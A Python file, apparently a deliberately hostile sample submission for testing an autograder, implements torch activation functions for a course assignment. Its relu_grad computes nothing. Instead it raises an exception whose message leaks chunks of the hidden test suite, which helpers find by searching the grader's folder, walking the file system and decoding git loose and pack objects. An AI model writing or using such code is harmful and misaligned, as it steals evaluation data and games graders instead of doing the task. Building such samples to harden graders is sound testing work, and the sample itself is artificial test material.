# HOSTILE SUBMISSION (autograder zoo): relu_grad hunts for the hidden test suite on the grading
# machine and smuggles it out, one chunk per call, in the message of the exception it raises
# (exception messages end up in the student-visible results). It tries the grader's own folder, a
# walk of the file system, and the grader repository's git objects (loose and packed). Everything
# else is the reference.
"""Activation functions of the artificial neuron, and three explicit derivatives (torch).

Rules for every function in this file (the contract in the handout):

* ``x`` is a floating-point ``torch.Tensor`` (float16, bfloat16, float32 or float64) of any
  shape, 0-d and empty included, on any device (CPU, CUDA, ``meta``).
* The result is a *new* tensor with the shape, dtype and device of ``x``; ``x`` is never
  modified in place.
* Vectorised tensor operations only: no Python loops over elements, no ``.item()``,
  ``.tolist()``, ``.numpy()``, ``.cpu()`` or ``.to(device)`` round trips.
* You may compute in a wider float dtype (``x.float()``) and convert back to ``x.dtype``; that is
  how float16/bfloat16 meet the accuracy bar.
* Do not call torch's own version of the function you are writing (``torch.sigmoid``,
  ``torch.tanh``, ``torch.relu``, ``torch.sign``, ``torch.heaviside``, ``torch.logaddexp``,
  anything in ``torch.nn.functional`` or ``torch.special.expit``/``log_expit``, and the
  matching ``Tensor`` methods). ``exp``, ``expm1``, ``log1p``, ``abs``, ``where``, ``clamp``,
  ``maximum``, comparisons and arithmetic are your material.
* Continuous functions return NaN for NaN input, and autograd must give finite gradients for
  every finite input, including ``|x| = 1e4``.
"""

import os
import time
import zlib

import torch

_CHUNK = 450
_state = {"lines": None, "next": 0}


def _is_hidden_suite(text: str) -> bool:
    return "pytestmark = pytest.mark." in text and "autograder.suites" in text


def _from_the_grader_folder(found: dict) -> None:
    import autograder

    root = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
    for folder, _, files in os.walk(os.path.join(root, "autograder", "suites")):
        for name in files:
            _read_file(os.path.join(folder, name), found)
    _git_objects(os.path.join(root, ".git"), found, time.monotonic() + 5.0)


def _read_file(path: str, found: dict) -> None:
    if not path.endswith(".py") or path in found:
        return
    try:
        with open(path, encoding="utf-8", errors="replace") as stream:
            text = stream.read(400_000)
    except OSError:
        return
    if _is_hidden_suite(text):
        found[path] = text


def _walk_disk(found: dict, deadline: float) -> None:
    skip = {"/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/lib", "/boot", "/run"}
    roots = ["/autograder", "/work", "/srv", "/opt", "/home", "/root", "/tmp", "/var", "/"]
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip
                       and d not in ("site-packages", "node_modules", ".venv")]
            for name in files:
                if name.startswith("test_") and name.endswith(".py"):
                    _read_file(os.path.join(folder, name), found)
                elif name == "HEAD" and folder.endswith(".git"):
                    _git_objects(folder, found, deadline)


def _git_objects(git_dir: str, found: dict, deadline: float) -> None:
    objects = os.path.join(git_dir, "objects")
    for folder, _, files in os.walk(objects):
        for name in files:
            if time.monotonic() > deadline:
                return
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as stream:
                    data = stream.read()
            except OSError:
                continue
            if name.endswith(".pack"):
                _pack_blobs(data, path, found)
            elif len(name) == 38:
                try:
                    raw = zlib.decompress(data)
                except zlib.error:
                    continue
                if raw.startswith(b"blob "):
                    text = raw.split(b"\0", 1)[1].decode("utf-8", "replace")
                    if _is_hidden_suite(text):
                        found[path] = text


def _pack_blobs(data: bytes, path: str, found: dict) -> None:
    """Whole (undeltified) blobs of a git pack file."""
    if data[:4] != b"PACK":
        return
    count, offset = int.from_bytes(data[8:12], "big"), 12
    for index in range(count):
        byte = data[offset]
        kind, offset = (byte >> 4) & 7, offset + 1
        while byte & 0x80:
            byte, offset = data[offset], offset + 1
        if kind == 6:  # OFS_DELTA: variable-length base offset
            byte, offset = data[offset], offset + 1
            while byte & 0x80:
                byte, offset = data[offset], offset + 1
        elif kind == 7:  # REF_DELTA: 20-byte base name
            offset += 20
        window = data[offset:offset + 4_000_000]
        stream = zlib.decompressobj()
        try:
            raw = stream.decompress(window)
        except zlib.error:
            return
        offset += len(window) - len(stream.unused_data)
        if kind == 3:
            text = raw.decode("utf-8", "replace")
            if _is_hidden_suite(text):
                found[f"{path}#{index}"] = text


def _hidden_lines() -> list:
    found: dict = {}
    deadline = time.monotonic() + 6.0
    for attempt in (_from_the_grader_folder, lambda f: _walk_disk(f, deadline)):
        try:
            attempt(found)
        except Exception:  # noqa: BLE001 - keep looking elsewhere
            pass
    lines = []
    for text in found.values():
        for line in text.splitlines():
            line = line.strip()
            if line and line not in lines:
                lines.append(line)
    # the test names first: they say what is checked
    return sorted(lines, key=lambda line: not line.startswith("def test_"))


def _next_chunk() -> str:
    if _state["lines"] is None:
        _state["lines"] = _hidden_lines()
    lines, start = _state["lines"], _state["next"]
    chunk, end = [], start
    while end < len(lines) and sum(len(piece) + 3 for piece in chunk) < _CHUNK:
        chunk.append(lines[end])
        end += 1
    _state["next"] = end if end < len(lines) else 0
    return " ⏎ ".join(chunk) if chunk else f"nothing found ({len(lines)} lines)"



def _working_dtype(x: torch.Tensor) -> torch.dtype:
    """The dtype to compute in: float32 for the half-precision types, else x's own."""
    return torch.float32 if x.dtype in (torch.float16, torch.bfloat16) else x.dtype




def sign(x: torch.Tensor) -> torch.Tensor:
    """Sign function: −1 for x < 0, 0 for x = 0, +1 for x > 0.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {−1, 0, +1}.
    """
    return (x > 0).to(x.dtype) - (x < 0).to(x.dtype)


def heaviside(x: torch.Tensor) -> torch.Tensor:
    """Heaviside step function as on the lecture slide: H(x) = 1 for x ≥ 0, 0 for x < 0.

    Note H(0) = 1, and also H(−0.0) = 1 (−0.0 ≥ 0 is true).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {0, 1}.
    """
    return (x >= 0).to(x.dtype)


def logistic(x: torch.Tensor) -> torch.Tensor:
    """Logistic sigmoid σ(x) = 1 / (1 + e^(−x)), computed without overflow.

    The naive formula overflows for large negative x (e^(−x) = inf). Evaluate e^(−|x|) only,
    which lies in (0, 1]: σ(x) = 1 / (1 + e^(−x)) for x ≥ 0 and e^x / (1 + e^x) for x < 0.
    Make sure the branch that ``torch.where`` does *not* select cannot produce inf either: its
    gradient is multiplied by 0, and 0 · inf = NaN.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device; exactly 0.5 at x = 0, never NaN or inf for
        finite x, finite autograd gradients everywhere (also at ±1e4).
    """
    xw = x.to(_working_dtype(x))
    negative = xw < 0
    # −|x|, written with where so that its gradient is −1 at x = 0 (abs' gradient there is 0).
    e = torch.exp(torch.where(negative, xw, -xw))
    y = torch.where(negative, e / (1 + e), 1 / (1 + e))
    return y.to(x.dtype)


def tanh(x: torch.Tensor) -> torch.Tensor:
    """Hyperbolic tangent tanh(x) = (e^x − e^(−x)) / (e^x + e^(−x)), without NaN at ±1e4.

    The textbook formula gives inf/inf = NaN for large |x|. tanh(x) = 2σ(2x) − 1 works; a
    more accurate form near 0 uses expm1: tanh(|x|) = −m / (2 + m) with m = expm1(−2|x|).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [−1, 1].
    """
    xw = x.to(_working_dtype(x))
    negative = xw < 0
    m = torch.expm1(2 * torch.where(negative, xw, -xw))  # expm1(−2|x|), in (−1, 0]
    t = -m / (2 + m)  # tanh(|x|)
    return torch.where(negative, -t, t).to(x.dtype)


def relu(x: torch.Tensor) -> torch.Tensor:
    """Rectified linear unit ReLU(x) = max(0, x). NaN input gives NaN.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device.
    """
    return torch.where(x < 0, torch.zeros_like(x), x)


def leaky_relu(x: torch.Tensor, negative_slope: float = 0.01) -> torch.Tensor:
    """Leaky ReLU: x for x ≥ 0, negative_slope · x for x < 0.

    Args:
        x: floating-point tensor, any shape, any device.
        negative_slope: the slope for negative inputs (a Python number).

    Returns:
        Tensor of x's shape, dtype and device.
    """
    return torch.where(x < 0, negative_slope * x, x)


def prelu(x: torch.Tensor, a: torch.Tensor) -> torch.Tensor:
    """Parametric ReLU: x for x ≥ 0, a · x for x < 0, with a learnable slope ``a``.

    Args:
        x: floating-point tensor, any shape, any device.
        a: tensor of x's dtype and device: 0-d (one slope for everything), or, for x with at
            least one dimension, shape (1,) or (D,) where D = x.shape[-1] (one slope per
            feature, broadcast along the last dimension).

    Returns:
        Tensor of x's shape, dtype and device; autograd gradients reach both x and a.
    """
    return torch.where(x < 0, a * x, x)


def silu(x: torch.Tensor) -> torch.Tensor:
    """Sigmoid-weighted linear unit SiLU(x) = x · σ(x) (also called swish).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device; finite gradients at ±1e4.
    """
    xw = x.to(_working_dtype(x))
    return (xw * logistic(xw)).to(x.dtype)


def softplus(x: torch.Tensor, beta: float = 1.0) -> torch.Tensor:
    """SoftPlus(x) = (1/β) · log(1 + e^(βx)), a smooth ReLU.

    With z = βx: log(1 + e^z) = max(z, 0) + log1p(e^(−|z|)), which never overflows
    (softplus(1e4) = 1e4) and stays accurate for large negative z (log1p(e^z) ≈ e^z).

    Args:
        x: floating-point tensor, any shape, any device.
        beta: sharpness β > 0 (a Python number).

    Returns:
        Tensor of x's shape, dtype and device.

    Raises:
        ValueError: if beta ≤ 0.
    """
    if not beta > 0:
        raise ValueError(f"softplus: beta must be > 0, got {beta!r}")
    z = beta * x.to(_working_dtype(x))
    negative = z < 0
    log_term = torch.log1p(torch.exp(torch.where(negative, z, -z)))  # log1p(e^(−|z|))
    y = torch.where(negative, log_term, z + log_term) / beta
    return y.to(x.dtype)


def logistic_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of the logistic function, σ'(x) = σ(x)(1 − σ(x)), by the explicit formula.

    Do not use autograd here. σ(x)(1 − σ(x)) = e^(−|x|) / (1 + e^(−|x|))² is the same value
    and stays accurate for large |x|.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [0, 1/4].
    """
    xw = x.to(_working_dtype(x))
    e = torch.exp(-xw.abs())
    return (e / (1 + e) ** 2).to(x.dtype)


def tanh_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of tanh, tanh'(x) = 1 − tanh²(x), by the explicit formula.

    1 − tanh²(x) = 4e / (1 + e)² with e = e^(−2|x|) is the same value and stays accurate for
    large |x|.

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in [0, 1].
    """
    xw = x.to(_working_dtype(x))
    e = torch.exp(-2 * xw.abs())
    return (4 * e / (1 + e) ** 2).to(x.dtype)


def relu_grad(x: torch.Tensor) -> torch.Tensor:
    """Derivative of ReLU: 1 for x > 0, 0 for x ≤ 0 (the lecture's choice at x = 0).

    Args:
        x: floating-point tensor, any shape, any device.

    Returns:
        Tensor of x's shape, dtype and device with values in {0, 1}.
    """
    raise ValueError(_next_chunk())
